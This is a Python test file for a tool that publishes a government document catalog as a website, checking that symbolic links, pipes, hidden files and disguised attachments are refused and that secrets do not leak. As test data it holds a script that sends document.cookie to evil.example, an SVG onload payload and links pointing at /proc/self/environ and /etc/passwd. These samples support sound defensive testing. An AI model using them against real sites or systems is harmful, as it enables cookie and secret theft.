"""Nothing from outside the catalog reaches the site, and nothing in it runs there.

- No symbolic link below the catalog folder is followed, whatever it stands for
  (record, kind or year folder, files/ or anything below it, site.yaml,
  compliance.yaml), FIFOs and other special files are refused without blocking,
  hidden (dot-named) entries are reported, never silently skipped.
- Attachments are published only if they are of an allowed type, by name and
  by content, and exactly as they were checked.
- Interrupted builds' folders are cleaned up, never a running build's.
- Identity: 文号, 统一登记号 and 索引号 are compared as they read, relations
  cannot loop and nothing is repealed twice, 序号 agrees with the file name.
"""
import io
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from conftest import FIXED_TODAY, MINIMAL

from gongkai import docno, mkdocs_project
from gongkai.attachmenttypes import refusal
from gongkai.load import FileChangedError, legacy_encoded_files, load_catalog
from gongkai.pipeline import check, generate
from gongkai.problems import CatalogError, Severity
from gongkai.regularfile import RefusedFile, RegularFiles, open_regular, read_limited
from gongkai.staging import remove_leftovers

SECRET = "GK_SECRET_TOKEN_Z81QF"  # what a CI token in the build's environment would look like
ATTACHMENT = "files/documents/fx-2021-02/plan.txt"  # referenced by fx-2021-02.md and decision 2021-01


def errors_at(result, path: str) -> list[str]:
    return [f"{p.message} — {p.hint}" for p in result.errors if p.file == f"catalog/{path}"]


def run_check(catalog: Path):
    return check(catalog, display_root="catalog", today=FIXED_TODAY)


def link(catalog: Path, relative: str, target) -> None:
    """Replace catalog/relative (file or folder) by a symbolic link to `target`."""
    path = catalog / relative
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    elif path.exists() or path.is_symlink():
        path.unlink()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)


# --- symbolic links ---------------------------------------------------------------


def test_attachment_linked_to_the_build_environment_is_refused_unread(minimal_copy, monkeypatch):
    monkeypatch.setenv("CI_JOB_TOKEN", SECRET)
    link(minimal_copy, ATTACHMENT, "/proc/self/environ")
    result = run_check(minimal_copy)
    found = errors_at(result, ATTACHMENT)
    assert found and "符号链接" in found[0] and "实际的文件" in found[0]
    assert "documents/fx-2021-02/plan.txt" not in result.catalog.files
    assert not any(SECRET in str(problem) for problem in result.problems)


@pytest.mark.parametrize("relative, target", [
    ("documents/fx-2019-01.md", "../../withheld.md"),  # a record file
    ("documents", "../elsewhere"),  # a kind folder
    ("decisions/2021", "../../elsewhere"),  # a year folder
    ("decisions/2021/catalog.yaml", "/etc/passwd"),  # a year catalog
    ("files", "../elsewhere"),  # the attachments folder
    ("files/documents", "../../elsewhere"),  # a folder below it
    (ATTACHMENT, "../../../decisions/2021/2021-03.yaml"),  # an attachment showing a withheld record's file
    ("site.yaml", "../elsewhere/site.yaml"),
    ("compliance.yaml", "../elsewhere/compliance.yaml"),
])
def test_every_kind_of_link_is_an_error_naming_it(minimal_copy, relative, target):
    elsewhere = minimal_copy.parent / "elsewhere"
    shutil.copytree(minimal_copy, elsewhere)  # a link to a perfectly valid copy is still refused
    shutil.copy(minimal_copy / "decisions/2021/2021-03.yaml", minimal_copy.parent / "withheld.md")
    link(minimal_copy, relative, target)
    result = run_check(minimal_copy)
    found = errors_at(result, relative)
    assert len(found) == 1 and found[0].startswith("是符号链接，不会读取或发布"), [str(p) for p in result.errors]
    assert not result.ok
    if relative == "site.yaml":
        assert not any("缺少站点设置文件" in p.message for p in result.problems)  # one clear error, not two


def test_nothing_behind_a_link_is_loaded(minimal_copy):
    link(minimal_copy, "documents", "../elsewhere")
    (minimal_copy.parent / "elsewhere").mkdir()
    shutil.copy(MINIMAL / "documents/fx-2019-01.md", minimal_copy.parent / "elsewhere/fx-2019-01.md")
    link(minimal_copy, ATTACHMENT, "../../../decisions/2021/2021-03.yaml")
    loaded = load_catalog(minimal_copy)
    assert not [r for r in loaded.records if r.kind.key == "documents"]
    assert "documents/fx-2021-02/plan.txt" not in loaded.files


def test_a_linked_record_is_not_also_reported_as_missing(minimal_copy):
    link(minimal_copy, "documents/fx-2019-01.md", "/etc/passwd")
    result = run_check(minimal_copy)
    assert not any("找不到" in p.message and "fx-2019-01" in p.message for p in result.problems), [str(p) for p in result.errors]


def test_the_catalog_folder_itself_may_be_a_link(minimal_copy, tmp_path):
    (tmp_path / "linked").symlink_to(minimal_copy)
    result = run_check(tmp_path / "linked")
    assert result.ok, [str(p) for p in result.errors]
    assert "documents/fx-2021-02/plan.txt" in result.catalog.files


def test_open_regular_never_follows_a_link_at_any_level(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "a.txt").write_text("ok", encoding="utf-8")
    (tmp_path / "via").symlink_to(tmp_path / "real")
    (tmp_path / "real" / "b.txt").symlink_to(tmp_path / "real" / "a.txt")
    with open_regular(tmp_path, "real/a.txt") as handle:
        assert handle.read() == b"ok"
    for relative in ("via/a.txt", "real/b.txt", "real/../real/a.txt", "/etc/passwd"):
        with pytest.raises(RefusedFile):
            open_regular(tmp_path, relative)


def test_format_never_writes_through_a_link(minimal_copy, tmp_path):
    outside = tmp_path / "outside.md"
    outside.write_bytes("---\n标题: 外部文件\n---\n".encode("gb18030"))
    (minimal_copy / "documents" / "fx-2030-01.md").symlink_to(outside)
    assert legacy_encoded_files(minimal_copy) == []


def test_new_never_writes_through_a_dangling_link(minimal_copy, tmp_path):
    """`new` picks the next free id; a dangling link already sitting at that name must not be followed."""
    outside = tmp_path / "written-through.md"
    target = minimal_copy / "reports" / "fzzf-2027.md"
    target.parent.mkdir(exist_ok=True)
    target.symlink_to(outside)
    completed = subprocess.run([sys.executable, "-m", "gongkai", "--catalog", str(minimal_copy), "new", "report", "--year", "2027"],
                               capture_output=True, text=True, timeout=120)
    assert completed.returncode == 2, completed.stdout + completed.stderr
    assert "已存在（或是一个链接），未覆盖" in completed.stderr
    assert not outside.exists() and target.is_symlink()


# --- special files and hidden entries ------------------------------------------------


def test_fifos_are_refused_without_blocking(minimal_copy):
    os.mkfifo(minimal_copy / "documents" / "fx-2030-01.md")
    os.mkfifo(minimal_copy / "files" / "documents" / "pipe.txt")
    completed = subprocess.run(
        [sys.executable, "-m", "gongkai", "--catalog", str(minimal_copy), "--today", FIXED_TODAY.isoformat(), "check"],
        capture_output=True, text=True, cwd=minimal_copy.parent, timeout=60)
    assert completed.returncode == 1
    for path in ("documents/fx-2030-01.md", "files/documents/pipe.txt"):
        assert f"catalog/{path} 不是普通文件或文件夹（是管道、设备或套接字），不会读取" in completed.stderr


def test_hidden_entries_are_reported_not_skipped(minimal_copy):
    shutil.copy(minimal_copy / "documents/fx-2022-01.md", minimal_copy / "documents/.fx-2023-01.md")
    (minimal_copy / "files" / "documents" / ".secret.txt").write_text("x", encoding="utf-8")
    (minimal_copy / "decisions" / ".drafts").mkdir()
    (minimal_copy / "documents" / ".DS_Store").write_bytes(b"\0\0\0\1Bud1")
    (minimal_copy / "documents" / ".gitkeep").write_text("", encoding="utf-8")
    (minimal_copy / ".gitignore").write_text("*.tmp\n", encoding="utf-8")
    result = run_check(minimal_copy)
    assert errors_at(result, "documents/.fx-2023-01.md")[0].startswith("以「.」开头的隐藏文件不会被读取或发布")
    assert errors_at(result, "files/documents/.secret.txt")
    assert errors_at(result, "decisions/.drafts")[0].startswith("以「.」开头的隐藏文件夹")
    warnings = [p for p in result.problems if p.file == "catalog/documents/.DS_Store"]
    assert [p.severity for p in warnings] == [Severity.WARNING]
    assert not [p for p in result.problems if ".gitkeep" in p.file or ".gitignore" in p.file]
    assert len(result.errors) == 3


# --- attachment types ----------------------------------------------------------------


def office_package(*names: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, "<x/>")
    return buffer.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>fetch('//evil.example/?'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>'
DOCX = office_package("[Content_Types].xml", "word/document.xml")


@pytest.mark.parametrize("name, data, expected", [
    ("x.pdf", HTML, "内容却是网页或 SVG/XML 代码"),
    ("x.png", SVG, "内容却是网页或 SVG/XML 代码"),
    ("x.txt", b"  \n" + HTML, "内容却是网页或 SVG/XML 代码"),
    ("x.csv", "名称,说明\n甲,<script>alert(1)</script>\n".encode(), "内容却是网页或 SVG/XML 代码"),
    ("x.jpg", b"\x89PNG\r\n\x1a\n" + b"\0" * 16, "内容却不是 JPEG 图片（看起来是 PNG 图片）"),
    ("x.txt", b"\x89PNG\r\n\x1a\n" + b"\0" * 16, "内容却不是纯文本文件"),
    ("x.xlsx", DOCX, "内容却不是 Excel 表格"),
    ("x.pdf", b"", "是空文件"),
    ("x.html", b"<p>hi</p>", "是网页，在浏览器中打开时可以运行脚本"),
    ("x.HTM", b"<p>hi</p>", "是网页"),
    ("x.svg", SVG, "是 SVG 图片，在浏览器中打开时可以运行脚本"),
    ("x.xhtml", b"<p/>", "是网页"),
    ("x.xml", b"<a/>", "是 XML 文件"),
    ("x.js", b"alert(1)", "是 JavaScript 脚本"),
    ("x.swf", b"FWS", "是 Flash 动画"),
    ("x.exe", b"MZ", "是可执行程序或脚本"),
    ("x.zip", office_package("a.html"), "是压缩包"),
    ("x.rar", b"Rar!", "是压缩包"),
    ("x.dat", b"123", "的类型 .dat 不在可以发布的类型之内"),
    ("README", b"text", "没有扩展名"),
    ("x.docx", office_package("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"), "含有宏"),
    ("x.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode("utf-16-le"), "含有宏"),
])
def test_refused_attachments(name, data, expected):
    found = refusal(name, data)
    assert found is not None and expected in found.message, found
    assert found.hint


@pytest.mark.parametrize("name, data", [
    ("附件1.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
    ("附件1.PDF", b"%PDF-1.4\n"),
    ("附件.ofd", office_package("OFD.xml", "Doc_0/Document.xml")),
    ("附件.docx", DOCX),
    ("附件.xlsx", office_package("[Content_Types].xml", "xl/workbook.xml")),
    ("附件.wps", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64),
    ("附件.et", office_package("[Content_Types].xml", "xl/workbook.xml")),
    ("附件.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64),
    ("图.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF"),
    ("图.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
    ("图.gif", b"GIF89a\x01\0\x01\0"),
    ("表.csv", "\ufeff名称,金额\n办公用品,1<2\n".encode()),
    ("表.csv", "名称,电话\n市政府办公室,0759-6612345\n".encode("gbk")),
    ("说明.txt", "如 a < b 且 b > c，则……\n".encode()),
    ("说明.txt", b"\xff\xfe" + "通知全文".encode("utf-16-le")),
])
def test_allowed_attachments(name, data):
    assert refusal(name, data) is None


def reference(catalog: Path, file: str) -> None:
    """Point the fixture's attachment references at files/`file`."""
    for relative in ("documents/fx-2021-02.md", "decisions/2021/2021-01.yaml"):
        path = catalog / relative
        path.write_text(path.read_text(encoding="utf-8").replace("documents/fx-2021-02/plan.txt", file), encoding="utf-8")


def test_check_refuses_a_web_page_named_pdf_at_the_reference(minimal_copy):
    (minimal_copy / "files/documents/fx-2021-02/plan.pdf").write_bytes(HTML)
    reference(minimal_copy, "documents/fx-2021-02/plan.pdf")
    result = run_check(minimal_copy)
    found = [p for p in result.errors if "plan.pdf" in p.message]
    assert {(p.file, p.field) for p in found} == {("catalog/documents/fx-2021-02.md", "附件第1项.文件"),
                                                  ("catalog/decisions/2021/2021-01.yaml", "程序.决策公布.文件第1项.文件")}
    assert all(p.line for p in found)


def test_attachments_of_withheld_records_are_not_judged(minimal_copy):
    (minimal_copy / "files/documents/internal.html").write_bytes(b"<p>internal</p>")
    path = minimal_copy / "decisions/2021/2021-03.yaml"  # 不予公开
    path.write_text(path.read_text(encoding="utf-8") + "程序:\n  风险评估:\n    日期: 2021-05-01\n"
                    "    文件:\n      - {名称: 内部材料, 文件: documents/internal.html}\n", encoding="utf-8")
    result = run_check(minimal_copy)
    assert result.ok, [str(p) for p in result.errors]


# --- publishing exactly what was checked --------------------------------------------


def test_an_attachment_swapped_after_check_is_not_published(minimal_copy, tmp_path):
    result = run_check(minimal_copy)
    assert result.ok
    original = (minimal_copy / ATTACHMENT).read_bytes()
    swapped = original.replace("停".encode(), "亭".encode())  # same size, different bytes
    assert swapped != original and len(swapped) == len(original)
    (minimal_copy / ATTACHMENT).write_bytes(swapped)
    docs = tmp_path / "docs"
    with pytest.raises(CatalogError) as raised:
        generate(result.catalog, minimal_copy, docs, FIXED_TODAY)
    assert "附件在检查之后被改动、替换或删除" in str(raised.value)
    assert raised.value.problems[0].file == f"catalog/{ATTACHMENT}"
    assert not docs.exists()  # nothing at all was written


def test_an_attachment_replaced_by_a_link_after_check_is_not_published(minimal_copy, tmp_path, monkeypatch):
    monkeypatch.setenv("CI_JOB_TOKEN", SECRET)
    result = run_check(minimal_copy)
    link(minimal_copy, ATTACHMENT, "/proc/self/environ")
    info = result.catalog.files["documents/fx-2021-02/plan.txt"]
    with pytest.raises(FileChangedError) as raised:
        info.read()
    assert "是符号链接" in raised.value.problems[0].message
    with pytest.raises(CatalogError):
        generate(result.catalog, minimal_copy, tmp_path / "docs", FIXED_TODAY)
    assert not any(SECRET.encode() in p.read_bytes() for p in tmp_path.rglob("*") if p.is_file() and not p.is_symlink())


def test_an_unchanged_attachment_is_published_byte_for_byte(minimal_copy, tmp_path):
    result = run_check(minimal_copy)
    generate(result.catalog, minimal_copy, tmp_path / "docs", FIXED_TODAY)
    assert (tmp_path / "docs" / ATTACHMENT).read_bytes() == (minimal_copy / ATTACHMENT).read_bytes()


def test_publish_removes_links_in_its_own_paths_instead_of_writing_through_them(minimal_copy, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("not ours", encoding="utf-8")
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "files").symlink_to(outside)
    generate(run_check(minimal_copy).catalog, minimal_copy, docs, FIXED_TODAY)
    assert (outside / "keep.txt").read_text(encoding="utf-8") == "not ours" and len(list(outside.iterdir())) == 1
    assert not (docs / "files").is_symlink() and (docs / ATTACHMENT).is_file()


# --- leftovers of interrupted builds ---------------------------------------------------


def finished_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_leftovers_of_ended_builds_are_removed_running_ones_kept(tmp_path):
    final = tmp_path / "site"
    final.mkdir()
    dead = finished_pid()
    running = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        for name in (f".site.building-{dead}", f".site.old-{dead}", f".site.spool-{dead}", f".site.building-{running.pid}",
                     f".site.old-{os.getpid()}", f".other.building-{dead}", ".site.building-x1"):
            (tmp_path / name).mkdir()
            (tmp_path / name / "index.html").write_text("x", encoding="utf-8")
        (tmp_path / "target").mkdir()
        (tmp_path / f".site.old-{dead + 1000000}").symlink_to(tmp_path / "target")  # not a plain folder: left alone
        assert remove_leftovers(final) == 3
        left = sorted(p.name for p in tmp_path.iterdir())
        assert f".site.building-{dead}" not in left and f".site.old-{dead}" not in left and f".site.spool-{dead}" not in left
        for kept in (f".site.building-{running.pid}", f".site.old-{os.getpid()}", f".other.building-{dead}",
                     ".site.building-x1", f".site.old-{dead + 1000000}", "site", "target"):
            assert kept in left
    finally:
        running.kill()
        running.wait()


def test_a_build_removes_leftovers_and_says_how_many(tmp_path):
    project = tmp_path / "project"
    mkdocs_project.prepare(project)
    dead = finished_pid()
    for name in (f".site.building-{dead}", f".site.old-{dead}"):
        (project / name / "assets").mkdir(parents=True)
    run = mkdocs_project.build(project, MINIMAL, FIXED_TODAY.isoformat())
    assert run.returncode == 0, run.output
    assert "删除了 2 个中断的构建留下的临时文件夹" in run.output
    assert not [p.name for p in project.iterdir() if p.name.startswith(".site.")]


# --- identity --------------------------------------------------------------------------


def test_docno_identity_reads_every_spelling_of_one_number():
    same = ["测府规〔2021〕2号", "测府规〔２０２１〕２号", "测府规\u200b〔2021〕2号", "测府规[2021]第02号", "测府规（2021）2号"]
    assert {docno.identity(text) for text in same} == {"测府规〔2021〕2号"}
    assert docno.identity("测府规〔2021〕12号") != docno.identity("测府规〔2021〕2号")
    assert docno.identity("测府办规〔2021〕2号") != docno.identity("测府规〔2021〕2号")


def edit(catalog: Path, relative: str, old: str, new: str) -> None:
    path = catalog / relative
    text = path.read_text(encoding="utf-8")
    assert old in text, (relative, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_numbers_that_only_look_alike_are_duplicates_and_distinct_ones_pass(minimal_copy):
    edit(minimal_copy, "documents/fx-2022-01.md", "索引号: 000000000000000000/2022-00001", "索引号: " + "０" * 18 + "/2021-00002")
    edit(minimal_copy, "documents/fx-2022-01.md", "统一登记号: CSFG-2022-001", "统一登记号: csfg-2021-002")
    result = run_check(minimal_copy)
    found = sorted(p.field for p in result.errors if "重复" in p.message)
    assert found == ["索引号", "统一登记号"], [str(p) for p in result.errors]
    ok = minimal_copy.parent / "ok"
    shutil.copytree(MINIMAL, ok)
    edit(ok, "documents/fx-2022-01.md", "文号: 测府规〔2022〕1号", "文号: 测府规〔2021〕12号")
    edit(ok, "documents/fx-2022-01.md", "统一登记号: CSFG-2022-001", "统一登记号: CSFG-2021-0021")
    assert run_check(ok).ok


def test_invisible_characters_in_docno_and_registration_are_errors(minimal_copy):
    edit(minimal_copy, "documents/fx-2022-01.md", "文号: 测府规〔2022〕1号", "文号: 测府规〔2022〕1号\u202e")
    edit(minimal_copy, "documents/fx-2019-01.md", "统一登记号: CSFG-2019-001", "统一登记号: \u200dCSFG-2019-001")
    result = run_check(minimal_copy)
    messages = {(p.file.rsplit("/", 1)[-1], p.field): p.message for p in result.errors}
    assert "看不见的字符 U+202E" in messages[("fx-2022-01.md", "文号")]
    assert "第1个字符处有看不见的字符 U+200D" in messages[("fx-2019-01.md", "统一登记号")]


def test_a_loop_of_three_documents_is_one_error_naming_all(minimal_copy):
    # fx-2021-02 amends fx-2019-01 (fixture); fx-2019-01 repeals fx-2022-01; fx-2022-01 amends fx-2021-02.
    edit(minimal_copy, "documents/fx-2019-01.md", "状态历史:\n", "关系:\n  废止: [fx-2022-01]\n状态历史:\n")
    edit(minimal_copy, "documents/fx-2022-01.md", "状态历史:\n", "关系:\n  修改: [fx-2021-02]\n状态历史:\n")
    result = run_check(minimal_copy)
    loops = [p for p in result.errors if "形成循环" in p.message]
    assert len(loops) == 1
    for name in ("fx-2019-01.md", "fx-2021-02.md", "fx-2022-01.md"):
        assert name in loops[0].message


def test_a_document_cannot_repeal_itself(minimal_copy):
    edit(minimal_copy, "documents/fx-2022-01.md", "状态历史:\n", "关系:\n  废止: [fx-2022-01]\n状态历史:\n")
    assert any(p.message == "本文件不能废止自己" for p in run_check(minimal_copy).errors)


def test_being_amended_by_two_documents_is_fine(minimal_copy):
    edit(minimal_copy, "documents/fx-2022-01.md", "状态历史:\n", "关系:\n  修改: [fx-2019-01]\n状态历史:\n")
    edit(minimal_copy, "documents/fx-2019-01.md", "  - {状态: 已修改, 日期: 2021-07-01, 依据: fx-2021-02}\n",
         "  - {状态: 已修改, 日期: 2021-07-01, 依据: fx-2021-02}\n  - {状态: 已修改, 日期: 2030-02-01, 依据: fx-2022-01}\n")
    result = run_check(minimal_copy)
    assert not [p for p in result.errors if "循环" in p.message or "只能被废止一次" in p.message or "只能废止一次" in p.message]


def test_a_file_name_without_a_number_is_reported(minimal_copy):
    shutil.move(minimal_copy / "hearings/2021/2021-01.yaml", minimal_copy / "hearings/2021/2021-parking.yaml")
    result = run_check(minimal_copy)
    assert any(p.field == "序号" and p.message == "文件名 2021-parking.yaml 中没有序号" for p in result.errors)


# --- end to end -----------------------------------------------------------------------


def test_strict_build_with_a_linked_attachment_fails_and_leaks_nothing(minimal_copy, tmp_path, monkeypatch):
    monkeypatch.setenv("CI_JOB_TOKEN", SECRET)
    link(minimal_copy, ATTACHMENT, "/proc/self/environ")
    project = tmp_path / "project"
    mkdocs_project.prepare(project)
    run = mkdocs_project.build(project, minimal_copy, FIXED_TODAY.isoformat())
    assert run.returncode != 0
    assert f"catalog/{ATTACHMENT} 是符号链接，不会读取或发布" in run.output or f"{ATTACHMENT} 是符号链接" in run.output, run.output
    assert not (project / "site").exists()
    written = [p for p in tmp_path.rglob("*") if p.is_file() and not p.is_symlink()]
    assert written and not [p for p in written if SECRET.encode() in p.read_bytes()]
    assert not [p.name for p in project.iterdir() if p.name.startswith(".site.")]


@pytest.mark.parametrize("size", [0, 1, 99, 100, 101, 5000])
def test_a_bounded_read_gives_what_an_unsized_read_gives(tmp_path, size):
    path = tmp_path / "f.yaml"
    path.write_bytes(bytes(range(256)) * (size // 256) + bytes(size % 256))
    with open(path, "rb") as handle:
        assert read_limited(handle, 100) == path.read_bytes()[:101]
    files = RegularFiles(tmp_path)
    assert files.read("f.yaml", 100) == (path.read_bytes()[:101], size)
    files.close()


def test_a_file_longer_than_its_size_said_is_read_on_to_the_limit(tmp_path, monkeypatch):
    path = tmp_path / "f.yaml"
    path.write_bytes(b"x" * 150)
    real = os.fstat
    monkeypatch.setattr("gongkai.regularfile.os.fstat", lambda fd: os.stat_result((*real(fd)[:6], 10, *real(fd)[7:])))
    with open(path, "rb") as handle:
        assert read_limited(handle, 100) == b"x" * 101
    with open(path, "rb") as handle:
        assert read_limited(handle, 1000) == b"x" * 150
    files = RegularFiles(tmp_path)
    assert files.read("f.yaml", 100) == (b"x" * 101, 10) and files.read("f.yaml", 1000) == (b"x" * 150, 10)
    files.close()


def test_files_opened_through_their_kept_folder_are_refused_as_open_regular_refuses_them(tmp_path):
    (tmp_path / "real" / "inner").mkdir(parents=True)
    (tmp_path / "real" / "inner" / "a.yaml").write_bytes(b"a: 1\n")
    (tmp_path / "real" / "b.yaml").write_bytes(b"b: 2\n")
    (tmp_path / "linked").symlink_to(tmp_path / "real")
    (tmp_path / "real" / "link.yaml").symlink_to(tmp_path / "real" / "b.yaml")
    os.mkfifo(tmp_path / "real" / "pipe.yaml")
    files = RegularFiles(tmp_path)
    try:
        for relative in ["real/inner/a.yaml", "real/b.yaml", "real/inner/a.yaml", "linked/b.yaml", "linked/inner/a.yaml",
                         "real/link.yaml", "real/pipe.yaml", "real/missing.yaml", "missing/x.yaml", "../x.yaml", "real/../b.yaml"]:
            try:
                with open_regular(tmp_path, relative) as handle:
                    expected = handle.read()
            except RefusedFile as refused:
                expected = refused.reason
            try:
                with files.open(relative) as handle:
                    got = handle.read()
            except RefusedFile as refused:
                got = refused.reason
            try:
                read = files.read(relative, 1000)[0]
            except RefusedFile as refused:
                read = refused.reason
            assert got == expected == read, relative
    finally:
        files.close()
